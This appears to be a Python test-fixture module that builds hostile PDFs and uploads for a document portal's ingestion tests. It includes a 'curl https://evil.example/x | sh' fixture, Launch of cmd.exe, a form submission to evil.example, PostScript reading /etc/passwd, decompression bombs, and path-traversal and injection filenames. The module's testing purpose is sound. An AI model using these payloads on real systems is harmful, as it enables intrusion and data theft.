"""Hostile uploads and ordinary PDFs, built in code, each with the outcome it must have.

HOSTILE holds files made to attack the portal or its visitors: active content,
polyglots, disguised types, decompression bombs, damaged and encrypted PDFs and
dangerous names. Each must be refused with a specific error, or accepted only
once its active content is removed (and recorded) or its name made safe.

ORDINARY holds PDFs as different producers write them (reportlab, pikepdf,
qpdf's modes, PDFium, cairo, Ghostscript, ocrmypdf). Nothing in them is active,
so each must be stored byte for byte and yield its text.

Files are built on first use, so collecting the tests costs nothing; the
external producers are the system packages the portal's OCR already needs.
"""

import io
import os
import random
import subprocess
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path

import pikepdf
import pypdfium2
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw, ImageFont
from reportlab.lib import pagesizes
from reportlab.lib.styles import getSampleStyleSheet
from reportlab.lib.utils import ImageReader
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.ttfonts import TTFont
from reportlab.pdfgen import canvas
from reportlab.platypus import Paragraph, SimpleDocTemplate, Table

from search.ingestion import errors
from tests.pdf_updates import with_update

TEXT = "Surveillance use policy"
SECOND_PAGE = "Retention schedule"
FONTS = Path("/usr/share/fonts/truetype/dejavu")
# Past the portal's 512 MB limit on one decoded stream; deflate packs it into about 600 KB.
BOMB_INFLATED_BYTES = 600 * 1024**2
TOOL_TIMEOUT_SECONDS = 120


@dataclass(frozen=True)
class Refused:
    """Refused with this error class, its message matching this regular expression."""

    error: type[errors.IngestionError]
    message: str


@dataclass(frozen=True)
class Cleaned:
    """Accepted once active content is gone: a removal note matches `removed`, none of
    `traces` (bytes the upload holds) is left in the stored file, decoded."""

    removed: str
    traces: tuple[bytes, ...]
    shown: str = "policy.pdf"


@dataclass(frozen=True)
class Renamed:
    """Nothing active inside, so stored as uploaded, but shown under this safe name."""

    shown: str


Outcome = Refused | Cleaned | Renamed


@dataclass(frozen=True)
class HostileFile:
    label: str
    build: Callable[[], bytes]
    expected: Outcome
    upload_name: str = "policy.pdf"

    @cached_property
    def data(self) -> bytes:
        return self.build()


@dataclass(frozen=True)
class OrdinaryPdf:
    label: str
    build: Callable[[], bytes]
    text: str
    """Words the extracted text of the first page must contain."""

    @cached_property
    def data(self) -> bytes:
        return self.build()


# --- Building blocks ------------------------------------------------------------------


def reportlab_pdf(
    pages=(TEXT, SECOND_PAGE),
    pagesize=pagesizes.letter,
    font=("Helvetica", 12),
    compress=True,
    draw=None,
) -> bytes:
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=pagesize, invariant=1, pageCompression=int(compress))
    for text in pages:
        pdf.setFont(*font)
        pdf.drawString(72, pagesize[1] - 72, text)
        if draw is not None:
            draw(pdf)
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    """What qpdf writes, with a document ID derived from the content so every build is the
    same; qpdf cannot derive one for an encrypted file, which passes static_id instead."""
    buffer = io.BytesIO()
    pdf.save(buffer, deterministic_id="static_id" not in options, **options)
    return buffer.getvalue()


def edited(edit: Callable[[pikepdf.Pdf], None], **options) -> Callable[[], bytes]:
    """A builder: the two-page policy PDF, changed by edit and saved by qpdf."""

    def build() -> bytes:
        with pikepdf.open(io.BytesIO(reportlab_pdf())) as pdf:
            edit(pdf)
            return saved(pdf, **options)

    return build


def script(code: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def annotate(pdf: pikepdf.Pdf, annotation: Dictionary, page: int = 0) -> Dictionary:
    page_object = pdf.pages[page].obj
    annotation.Type = Name.Annot
    annotation.Rect = Array([72, 72, 200, 90])
    annotation.P = page_object
    annotation = pdf.make_indirect(annotation)
    page_object.Annots = Array([*page_object.get(Name.Annots, Array()), annotation])
    return annotation


def link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    annotate(pdf, Dictionary(Subtype=Name.Link, A=action))


def catalog_number(data: bytes) -> int:
    trailer = data[data.rindex(b"trailer") :]
    return int(trailer[trailer.index(b"/Root") + 5 :].split()[0])


def catalog_with(data: bytes, entries: bytes) -> bytes:
    """A replacement catalog for data, with its page tree and the entries given."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pages = pdf.Root.Pages.objgen[0]
    return b"<< /Type /Catalog /Pages %d 0 R %s >>" % (pages, entries)


def zip_archive(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0)), content)
    return buffer.getvalue()


def csv_rows(size: int) -> bytes:
    """Comma-separated rows, about size bytes of them: text any CSV reader takes."""
    rows = b"".join(
        b"vendor%03d,%06d,2025-01-01\n" % (row, row * 7) for row in range(size // 26 + 1)
    )
    return rows[: rows.rindex(b"\n", 0, size) + 1]


def cut(fraction: float) -> Callable[[], bytes]:
    def build() -> bytes:
        data = reportlab_pdf(pages=[TEXT, SECOND_PAGE, "Audits", "Training"])
        return data[: int(len(data) * fraction)]

    return build


def encrypted(**encryption) -> Callable[[], bytes]:
    def build() -> bytes:
        with pikepdf.open(io.BytesIO(reportlab_pdf())) as pdf:
            return saved(pdf, static_id=True, encryption=pikepdf.Encryption(**encryption))

    return build


def run_tool(arguments: list[str], source: bytes, source_name: str = "in.pdf") -> bytes:
    """Run a PDF producer on source in a scratch folder and return what it wrote to out.pdf."""
    with tempfile.TemporaryDirectory(prefix="hostile-corpus-") as scratch:
        folder = Path(scratch)
        (folder / source_name).write_bytes(source)
        environment = {**os.environ, "SOURCE_DATE_EPOCH": "1735689600"}
        subprocess.run(  # noqa: S603 - fixed producers, arguments from this module
            arguments,
            cwd=folder,
            env=environment,
            check=True,
            capture_output=True,
            timeout=TOOL_TIMEOUT_SECONDS,
        )
        return (folder / "out.pdf").read_bytes()


# --- Active content ---------------------------------------------------------------------


def document_scripts(pdf):
    first = pdf.make_indirect(script("app.alert('named-script-one')"))
    second = pdf.make_indirect(script("app.alert('named-script-two')"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), first, String("b"), second]))
    )


def page_open_script(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=script("app.beep(0); // page-open-script"))


def page_close_script(pdf):
    pdf.pages[1].obj.AA = Dictionary(C=script("app.beep(0); // page-close-script"))


def link_script(pdf):
    link(pdf, script("app.launchURL('https://evil.example/link-script')"))


def form_field_scripts(pdf):
    field = annotate(
        pdf,
        Dictionary(
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("amount"),
            A=script("app.alert('field-click-script')"),
            AA=Dictionary(
                K=script("event.rc = true; // field-keystroke-script"),
                F=script("event.value = 1; // field-format-script"),
            ),
        ),
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def button_submits_form(pdf):
    field = annotate(
        pdf,
        Dictionary(
            Subtype=Name.Widget,
            FT=Name.Btn,
            Ff=65536,
            T=String("send"),
            A=Dictionary(
                S=Name.SubmitForm,
                F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect-form")),
            ),
        ),
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def open_action(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def edit(pdf):
        pdf.Root.OpenAction = action

    return edit


def launch_link(pdf):
    link(
        pdf,
        Dictionary(
            S=Name.Launch,
            Win=Dictionary(F=String("cmd.exe"), P=String("/c launch-payload")),
            NewWindow=True,
        ),
    )


def embedded_file(pdf):
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ attached-payload")


def file_attachment_annotation(pdf):
    specification = pikepdf.AttachedFileSpec(pdf, b"annotation-payload", filename="tool.js")
    annotate(pdf, Dictionary(Subtype=Name.FileAttachment, FS=specification.obj))


def rich_media(pdf):
    flash = pdf.make_stream(b"FWS rich-media-payload")
    asset = Dictionary(Type=Name.Filespec, F=String("movie.swf"), EF=Dictionary(F=flash))
    annotate(
        pdf,
        Dictionary(
            Subtype=Name.RichMedia,
            RichMediaContent=Dictionary(
                Assets=Dictionary(Names=Array([String("movie.swf"), asset]))
            ),
            RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
        ),
    )


def xfa_form(pdf):
    template = pdf.make_stream(b"<xdp:xdp><template>xfa-template-script</template></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=template)
    pdf.Root.NeedsRendering = True


def xfa_form_in_parts(pdf):
    parts = [pdf.make_stream(b"<template>xfa-part-%d</template>" % index) for index in range(2)]
    pdf.Root.AcroForm = Dictionary(
        Fields=Array(), XFA=Array([String("preamble"), parts[0], String("template"), parts[1]])
    )


def import_data_link(pdf):
    link(pdf, Dictionary(S=Name.ImportData, F=String("import-data-source.fdf")))


def remote_goto_link(pdf):
    link(pdf, Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share\\gotor-target.pdf")))


def embedded_goto_link(pdf):
    link(pdf, Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("goto-e-target"))))


def chained_script(pdf):
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoTo,
        D=Array([pdf.pages[0].obj, Name.Fit]),
        Next=Array(
            [
                Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])),
                script("app.alert('chained-script')"),
            ]
        ),
    )


def document_close_script(pdf):
    pdf.Root.AA = Dictionary(WC=script("app.alert('will-close-script')"))


def bookmark_script(pdf):
    outline = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(
        Dictionary(
            Title=String("Open me"), Parent=outline, A=script("app.alert('bookmark-script')")
        )
    )
    outline.First = outline.Last = item
    pdf.Root.Outlines = outline


def rendition_link(pdf):
    link(pdf, Dictionary(S=Name.Rendition, OP=0, JS=String("app.alert('rendition-script')")))


def script_in_a_stream(pdf):
    code = pdf.make_stream(b"app.alert('stream-script')")
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=code)


def local_file_link(pdf):
    link(pdf, Dictionary(S=Name.URI, URI=String("file:///C:/Windows/System32/file-uri.exe")))


def data_uri_link(pdf):
    link(pdf, Dictionary(S=Name.URI, URI=String("data:text/html,<script>data-uri</script>")))


def script_in_object_stream(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(script("app.alert('object-stream-script')"))


def hex_escaped_names() -> bytes:
    """The script's /S /JavaScript written as /J#61vaScript, which many scanners miss."""
    data = reportlab_pdf()
    return with_update(
        data,
        {
            catalog_number(data): catalog_with(data, b"/OpenAction 90 0 R"),
            90: b"<< /S /J#61vaScript /J#53 (app.alert('escaped-name-script')) >>",
        },
    )


def unreferenced_script() -> bytes:
    return with_update(reportlab_pdf(), {90: b"<< /S /JavaScript /JS (orphan-script) >>"})


def script_qpdf_cannot_reach() -> bytes:
    """The catalog points at object 999, which qpdf ignores past the xref's /Size; a reader
    that resolved it would run the script on opening."""
    data = reportlab_pdf()
    return with_update(
        data,
        {
            catalog_number(data): catalog_with(data, b"/OpenAction 999 0 R"),
            999: b"<< /S /JavaScript /JS (differential-script) >>",
        },
    )


def script_under_a_key_that_is_not_utf8() -> bytes:
    """pikepdf cannot look such a key up by name, which once crashed the cleaning."""
    data = reportlab_pdf()
    script_entry = b"/\x80x << /S /JavaScript /JS (odd-key-script) >>"
    return with_update(data, {catalog_number(data): catalog_with(data, script_entry)})


def overlong_action_chain(pdf):
    action = script("app.alert('end-of-long-chain')")
    for _ in range(60):
        action = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=action)
    pdf.Root.OpenAction = action


# --- Polyglots, disguised files and bombs ----------------------------------------------

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>\n"
)


def pe_program() -> bytes:
    header = bytearray(512)
    header[:2] = b"MZ"
    header[0x3C:0x40] = (0x80).to_bytes(4, "little")
    header[0x80:0x86] = b"PE\x00\x00\x4c\x01"
    return bytes(header)


def elf_program() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(56) + b"\x90" * 64


def zip_in_a_stream(pdf):
    pdf.Root.Payload = pdf.make_stream(zip_archive({"payload.js": b"alert(1)"}))


def flate_bomb() -> bytes:
    """One Flate stream of a few hundred KB that inflates to 600 MB of zeros."""
    packer = zlib.compressobj(9)
    megabyte = bytes(1024**2)
    packed = b"".join(packer.compress(megabyte) for _ in range(BOMB_INFLATED_BYTES // 1024**2))
    packed += packer.flush()
    with pikepdf.open(io.BytesIO(reportlab_pdf())) as pdf:
        bomb = pdf.make_stream(b"")
        bomb.write(packed, filter=Name.FlateDecode)
        pdf.pages[0].Contents = Array([pdf.pages[0].obj.Contents, bomb])
        return saved(
            pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none
        )


def huge_image(pdf):
    image = pdf.make_stream(
        b"\x00" * 16,
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=200_000,
        Height=200_000,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
    )
    pdf.pages[0].add_resource(image, Name.XObject, Name.Bomb)


def deeply_nested_arrays() -> bytes:
    depth = 20_000
    return with_update(reportlab_pdf(), {90: b"[" * depth + b"]" * depth})


def deeply_nested_page_tree() -> bytes:
    """Pages nodes 5,000 deep with one page at the bottom: recursion for every reader."""
    data = reportlab_pdf(pages=[TEXT])
    catalog = catalog_number(data)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        page = pdf.pages[0].obj
        page_number = page.objgen[0]
    depth = 5_000
    first = 100
    objects = {catalog: b"<< /Type /Catalog /Pages %d 0 R >>" % first}
    for level in range(depth):
        number = first + level
        kid = number + 1 if level < depth - 1 else page_number
        parent = b" /Parent %d 0 R" % (number - 1) if level else b""
        objects[number] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1%s >>" % (kid, parent)
    return with_update(data, objects)


def with_page_tree_count(data: bytes, count: int) -> bytes:
    """data with its page tree's /Count replaced (qpdf corrects /Count when it saves)."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        tree = pdf.Root.Pages.objgen[0]
        kids = b" ".join(b"%d 0 R" % page.obj.objgen[0] for page in pdf.pages)
    return with_update(data, {tree: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)})


def page_count_claimed_huge() -> bytes:
    return with_page_tree_count(reportlab_pdf(pages=[TEXT]), 2_000_000_000)


def too_many_pages() -> bytes:
    """10,001 blank pages, written directly: building them with pikepdf takes seconds."""
    data = reportlab_pdf(pages=[TEXT])
    tree, first = 90, 100
    pages = range(first, first + 10_001)
    objects = {
        catalog_number(data): b"<< /Type /Catalog /Pages %d 0 R >>" % tree,
        tree: b"<< /Type /Pages /Kids [%s] /Count %d >>"
        % (b" ".join(b"%d 0 R" % page for page in pages), len(pages)),
    }
    for page in pages:
        objects[page] = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] >>" % tree
    return with_update(data, objects)


def page_tree_loop() -> bytes:
    data = reportlab_pdf(pages=[TEXT])
    catalog = catalog_number(data)
    return with_update(
        data,
        {
            catalog: b"<< /Type /Catalog /Pages 90 0 R >>",
            90: b"<< /Type /Pages /Kids [90 0 R] /Count 1 >>",
        },
    )


def without_cross_references() -> bytes:
    """Everything from the cross-reference table on is gone but the end-of-file marker."""
    data = reportlab_pdf()
    return data[: data.rindex(b"\nxref") + 1] + b"%%EOF\n"


def without_trailer() -> bytes:
    data = reportlab_pdf()
    return data[: data.rindex(b"trailer")] + b"startxref\n0\n%%EOF\n"


def update_cut_short() -> bytes:
    data = unreferenced_script()
    return data[: len(data) - 40]


def zero_pages() -> bytes:
    with pikepdf.new() as pdf:
        return saved(pdf)


def zero_pages_claiming_some() -> bytes:
    return with_page_tree_count(zero_pages(), 3)


def random_bytes(size: int) -> bytes:
    return random.Random(size).randbytes(size)


def ascii_pdf() -> bytes:
    """A PDF of ASCII only (no binary comment, streams uncompressed), as a polyglot needs."""
    data = reportlab_pdf(compress=False)
    return data.replace(b"%\x93\x8c\x8b\x9e ReportLab Generated PDF document", b"%", 1)


# --- The hostile corpus -------------------------------------------------------------------

DISGUISED = errors.DisguisedFile
DAMAGED = errors.DamagedFile
UNSUPPORTED = errors.UnsupportedType
TOO_COMPLEX = errors.TooComplex
ENCRYPTED = errors.EncryptedFile
NO_PAGES = errors.NoPages

HOSTILE = [
    # Active content: removed, recorded, and gone from the stored bytes.
    HostileFile(
        "document-level JavaScript in /Names",
        edited(document_scripts),
        Cleaned(r"document-level JavaScript \(2 script\(s\)\)", (b"named-script-one",)),
    ),
    HostileFile(
        "page open script (/AA /O)",
        edited(page_open_script),
        Cleaned(r"JavaScript action in /AA /O of page 1", (b"page-open-script",)),
    ),
    HostileFile(
        "page close script (/AA /C)",
        edited(page_close_script),
        Cleaned(r"JavaScript action in /AA /C of page 2", (b"page-close-script",)),
    ),
    HostileFile(
        "link annotation running JavaScript",
        edited(link_script),
        Cleaned(r"JavaScript action in /A of a Link annotation on page 1", (b"link-script",)),
    ),
    HostileFile(
        "form field click, keystroke and format scripts",
        edited(form_field_scripts),
        Cleaned(
            r"JavaScript action in /AA /K of a Widget annotation",
            (b"field-click-script", b"field-keystroke-script", b"field-format-script"),
        ),
    ),
    HostileFile(
        "form button that submits the form",
        edited(button_submits_form),
        Cleaned(r"SubmitForm action .* in /A of a Widget annotation", (b"collect-form",)),
    ),
    HostileFile(
        "/OpenAction JavaScript",
        edited(open_action(script("app.alert('open-action-script')"))),
        Cleaned(r"JavaScript action in /OpenAction of the document", (b"open-action-script",)),
    ),
    HostileFile(
        "/OpenAction Launch",
        edited(open_action(Dictionary(S=Name.Launch, F=String("open-action-launch.exe")))),
        Cleaned(r"Launch action .* in /OpenAction of the document", (b"open-action-launch",)),
    ),
    HostileFile(
        "/OpenAction URI to javascript:",
        edited(open_action(Dictionary(S=Name.URI, URI=String("javascript:alert('uri-script')")))),
        Cleaned(r"URI action to a script or local-file address in /OpenAction", (b"uri-script",)),
    ),
    HostileFile(
        "/OpenAction URI to JavaScript: with spaces and capitals",
        edited(
            open_action(Dictionary(S=Name.URI, URI=String("  JaVaScRiPt:void('mixed-case-uri')")))
        ),
        Cleaned(r"URI action to a script or local-file address", (b"mixed-case-uri",)),
    ),
    HostileFile(
        "/Launch link with Windows parameters",
        edited(launch_link),
        Cleaned(r"Launch action .* in /A of a Link annotation", (b"launch-payload", b"cmd.exe")),
    ),
    HostileFile(
        "/EmbeddedFiles attachment",
        edited(embedded_file),
        Cleaned(r"embedded file “invoice.exe” in /Names /EmbeddedFiles", (b"attached-payload",)),
    ),
    HostileFile(
        "file attachment annotation",
        edited(file_attachment_annotation),
        Cleaned(
            r"embedded file “tool.js” in /FS of a FileAttachment annotation on page 1",
            (b"annotation-payload",),
        ),
    ),
    HostileFile(
        "/RichMedia annotation",
        edited(rich_media),
        Cleaned(r"rich media \(Flash, video or 3D\) content", (b"rich-media-payload",)),
    ),
    HostileFile(
        "XFA form in one stream",
        edited(xfa_form),
        Cleaned(r"XFA form in /AcroForm /XFA", (b"xfa-template-script", b"/NeedsRendering")),
    ),
    HostileFile(
        "XFA form in parts",
        edited(xfa_form_in_parts),
        Cleaned(r"XFA form in /AcroForm /XFA", (b"xfa-part-0", b"xfa-part-1")),
    ),
    HostileFile(
        "/ImportData link",
        edited(import_data_link),
        Cleaned(r"ImportData action", (b"import-data-source",)),
    ),
    HostileFile(
        "/GoToR link to a network share",
        edited(remote_goto_link),
        Cleaned(r"GoToR action \(opens another PDF file\)", (b"gotor-target",)),
    ),
    HostileFile(
        "/GoToE link",
        edited(embedded_goto_link),
        Cleaned(r"GoToE action \(opens an embedded file\)", (b"goto-e-target",)),
    ),
    HostileFile(
        "script behind harmless actions in a /Next list",
        edited(chained_script),
        Cleaned(r"JavaScript action in /OpenAction of the document", (b"chained-script",)),
    ),
    HostileFile(
        "document will-close script (/AA /WC)",
        edited(document_close_script),
        Cleaned(r"JavaScript action in /AA /WC of the document", (b"will-close-script",)),
    ),
    HostileFile(
        "bookmark running JavaScript",
        edited(bookmark_script),
        Cleaned(r"JavaScript action in /A of the bookmark “Open me”", (b"bookmark-script",)),
    ),
    HostileFile(
        "/Rendition action with JavaScript",
        edited(rendition_link),
        Cleaned(r"Rendition action", (b"rendition-script",)),
    ),
    HostileFile(
        "JavaScript held in a stream",
        edited(script_in_a_stream),
        Cleaned(r"JavaScript action in /OpenAction of the document", (b"stream-script",)),
    ),
    HostileFile(
        "link to a file: address",
        edited(local_file_link),
        Cleaned(r"URI action to a script or local-file address", (b"file-uri.exe",)),
    ),
    HostileFile(
        "link to a data: address",
        edited(data_uri_link),
        Cleaned(r"URI action to a script or local-file address", (b"data-uri",)),
    ),
    HostileFile(
        "script inside a compressed object stream",
        edited(script_in_object_stream, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        Cleaned(r"JavaScript action in /OpenAction of the document", (b"object-stream-script",)),
    ),
    HostileFile(
        "names hidden behind #xx escapes (/J#61vaScript)",
        hex_escaped_names,
        Cleaned(r"JavaScript action in /OpenAction of the document", (b"escaped-name-script",)),
    ),
    HostileFile(
        "script in an object nothing refers to",
        unreferenced_script,
        Cleaned(r"1 object\(s\) with active content that nothing", (b"orphan-script",)),
    ),
    HostileFile(
        "script only another reader would reach",
        script_qpdf_cannot_reach,
        Cleaned(
            r"active content in parts of the file the document does not use",
            (b"differential-script",),
        ),
    ),
    HostileFile(
        "script under a key that is not UTF-8",
        script_under_a_key_that_is_not_utf8,
        Cleaned(r"JavaScript action in /\?x of the document", (b"odd-key-script",)),
    ),
    HostileFile(
        "script at the end of a 60-action chain",
        edited(overlong_action_chain),
        Cleaned(r"chain of more than 50 actions", (b"end-of-long-chain",)),
    ),
    HostileFile(
        "OpenAction script under a reversed-extension name",
        edited(open_action(script("app.alert('rtlo-script')"))),
        Cleaned(r"JavaScript action in /OpenAction", (b"rtlo-script",), shown="invoicefdp_exe.pdf"),
        upload_name="invoice\u202efdp.exe",
    ),
    # Polyglots: two kinds of file at once.
    HostileFile(
        "PDF with a ZIP appended",
        lambda: reportlab_pdf() + zip_archive({"evil.js": b"alert(1)"}),
        Refused(DISGUISED, r"bytes of other data after its end"),
    ),
    HostileFile(
        "PDF with a ZIP inside an uncompressed stream",
        edited(zip_in_a_stream, compress_streams=False),
        Refused(DISGUISED, r"also contains a ZIP archive"),
    ),
    HostileFile(
        "PDF with HTML appended",
        lambda: reportlab_pdf() + HTML,
        Refused(DISGUISED, r"HTML appended after its end \(%%EOF\)"),
    ),
    HostileFile(
        "PDF with SVG appended",
        lambda: reportlab_pdf() + SVG,
        Refused(DISGUISED, r"SVG appended after its end"),
    ),
    HostileFile(
        "HTML with a PDF after it",
        lambda: HTML + reportlab_pdf(),
        Refused(DISGUISED, r"its PDF header \(%PDF-\) comes after HTML"),
    ),
    HostileFile(
        "PDF header after 512 bytes of text",
        lambda: csv_rows(512) + reportlab_pdf(),
        Refused(DISGUISED, r"its PDF header \(%PDF-\) comes after \d+ bytes of other data"),
    ),
    HostileFile(
        "PDF header straddling byte 1024",
        lambda: b"#" * 1021 + b"\n" + ascii_pdf(),
        Refused(DISGUISED, r"its PDF header \(%PDF-\) comes after 1,?022 bytes"),
    ),
    HostileFile(
        "PDF header after 1 KB of CSV rows",
        lambda: csv_rows(1100) + ascii_pdf(),
        Refused(DISGUISED, r"its PDF header \(%PDF-\) comes after"),
        upload_name="spend.csv",
    ),
    HostileFile(
        "PDF header after 4 KB of CSV rows",
        lambda: csv_rows(4096) + ascii_pdf(),
        Refused(DISGUISED, r"its PDF header \(%PDF-\) comes after"),
        upload_name="spend.csv",
    ),
    HostileFile(
        "PDF header after 2 KB of random bytes",
        lambda: random_bytes(2048) + reportlab_pdf(),
        Refused(DISGUISED, r"its PDF header \(%PDF-\) comes after 2,048 bytes of other data"),
    ),
    HostileFile(
        "PDF after 100 KB of CSV rows",
        lambda: csv_rows(100_000) + ascii_pdf(),
        Refused(DISGUISED, r"its PDF header \(%PDF-\) comes after 99,?\d{3} bytes"),
        upload_name="spend.csv",
    ),
    # Other kinds of file named .pdf.
    HostileFile(
        "HTML named .pdf", lambda: HTML, Refused(UNSUPPORTED, r"This is an HTML file, not a PDF")
    ),
    HostileFile(
        "SVG with a script named .pdf",
        lambda: SVG,
        Refused(UNSUPPORTED, r"This is an SVG image, not a PDF"),
    ),
    HostileFile(
        "Windows program (PE) named .pdf",
        pe_program,
        Refused(UNSUPPORTED, r"This is a Windows program, not a PDF"),
    ),
    HostileFile(
        "Linux program (ELF) named .pdf",
        elf_program,
        Refused(UNSUPPORTED, r"This is a Linux program, not a PDF"),
    ),
    HostileFile(
        "shell script named .pdf",
        lambda: b"#!/bin/sh\ncurl https://evil.example/x | sh\n",
        Refused(UNSUPPORTED, r"plain text file .*, not a PDF"),
    ),
    HostileFile(
        "PostScript named .pdf",
        lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
        Refused(UNSUPPORTED, r"This is a PostScript file, not a PDF"),
    ),
    HostileFile(
        "Java archive named .pdf",
        lambda: zip_archive({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n"}),
        Refused(UNSUPPORTED, r"This is a Java archive \(\.jar\), not a PDF"),
    ),
    # Decompression bombs and files built to exhaust readers.
    HostileFile(
        "Flate stream inflating to 600 MB",
        flate_bomb,
        Refused(TOO_COMPLEX, r"expand to more than 512 MB .* decompression bomb"),
    ),
    HostileFile(
        "image declaring 200,000 x 200,000 pixels",
        edited(huge_image),
        Refused(TOO_COMPLEX, r"decompression bomb"),
    ),
    HostileFile(
        "arrays nested 20,000 deep",
        deeply_nested_arrays,
        Refused(TOO_COMPLEX, r"nested inside each other thousands of levels deep"),
    ),
    HostileFile(
        "page tree nested 5,000 deep",
        deeply_nested_page_tree,
        Refused(DAMAGED, r"cannot be opened \(object \d+ 0: /Pages structure too deeply nested"),
    ),
    HostileFile(
        "page tree claiming two billion pages",
        page_count_claimed_huge,
        Refused(TOO_COMPLEX, r"page tree claims 2,000,000,000 pages"),
    ),
    HostileFile(
        "10,001 pages",
        too_many_pages,
        Refused(TOO_COMPLEX, r"10,001 pages, more than the 10,000"),
    ),
    HostileFile(
        "page tree that contains itself",
        page_tree_loop,
        Refused(DAMAGED, r"Loop detected in /Pages structure"),
    ),
    # Damaged files.
    HostileFile("PDF cut at 10%", cut(0.1), Refused(DAMAGED, r"no end-of-file marker")),
    HostileFile("PDF cut at 50%", cut(0.5), Refused(DAMAGED, r"no end-of-file marker")),
    HostileFile("PDF cut at 90%", cut(0.9), Refused(DAMAGED, r"no end-of-file marker")),
    HostileFile(
        "PDF without its cross-reference table and trailer",
        without_cross_references,
        Refused(DAMAGED, r"its last section, which tells readers where its parts are"),
    ),
    HostileFile(
        "PDF without its trailer", without_trailer, Refused(DAMAGED, r"PDFium: Data format error")
    ),
    HostileFile(
        "incremental update cut short",
        update_cut_short,
        Refused(DAMAGED, r"its last section stops part-way"),
    ),
    # Encrypted files.
    HostileFile(
        "user password (AES-256)",
        encrypted(owner="owner", user="secret", aes=True, R=6),
        Refused(ENCRYPTED, r"password-protected"),
    ),
    HostileFile(
        "user password (RC4, 40-bit)",
        encrypted(owner="owner", user="secret", R=2, aes=False, metadata=False),
        Refused(ENCRYPTED, r"password-protected"),
    ),
    HostileFile(
        "owner password only, copying and printing forbidden",
        encrypted(
            owner="owner",
            user="",
            R=6,
            allow=pikepdf.Permissions(extract=False, print_lowres=False, print_highres=False),
        ),
        Refused(ENCRYPTED, r"encrypted with security restrictions"),
    ),
    # Files with nothing to show.
    HostileFile("zero pages", zero_pages, Refused(NO_PAGES, r"has no pages")),
    HostileFile(
        "zero pages with /Count 3", zero_pages_claiming_some, Refused(NO_PAGES, r"has no pages")
    ),
    HostileFile("empty file", lambda: b"", Refused(errors.EmptyFile, r"empty \(0 bytes\)")),
    # Dangerous names on an otherwise ordinary PDF.
    *(
        HostileFile(f"name {upload_name!r}", reportlab_pdf, Renamed(shown), upload_name=upload_name)
        for upload_name, shown in [
            ("../../../etc/passwd", "passwd.pdf"),
            ("..\\..\\Windows\\System32\\drivers.pdf", "drivers.pdf"),
            ("/etc/cron.d/policy.pdf", "policy.pdf"),
            ("C:\\Users\\Public\\policy.pdf", "policy.pdf"),
            ("\\\\server\\share\\policy.pdf", "policy.pdf"),
            ("policy\x00.exe.pdf", "policy_exe.pdf"),
            ("invoice\u202efdp.exe", "invoicefdp_exe.pdf"),
            ("\u2067report\u2069\u200f.pdf", "report.pdf"),
            ("CON", "CON_.pdf"),
            ("NUL.pdf", "NUL_.pdf"),
            ("COM1", "COM1_.pdf"),
            ("lpt1.PDF", "lpt1_.pdf"),
            ("aux.pdf.pdf", "aux_pdf.pdf"),
            ("a" * 1000 + ".pdf", "a" * 146 + ".pdf"),
            ("report.pdf.exe", "report_pdf_exe.pdf"),
            ("report.exe.pdf", "report_exe.pdf"),
            ("report.pdf. . .", "report.pdf"),
            ("report.pdf   ", "report.pdf"),
            ("re\x01po\x1brt\x7f\n.pdf", "report.pdf"),
            ("policy.pdf\r\nContent-Type: text/html", "html.pdf"),
            ('<img src=x onerror="alert(1)">.pdf', "_img src=x onerror=_alert(1)__.pdf"),
            ("..", "document.pdf"),
            ("", "document.pdf"),
        ]
    ),
]


# --- The ordinary corpus ------------------------------------------------------------------


def register_font(name: str, file_name: str) -> str:
    if name not in pdfmetrics.getRegisteredFontNames():
        pdfmetrics.registerFont(TTFont(name, str(FONTS / file_name)))
    return name


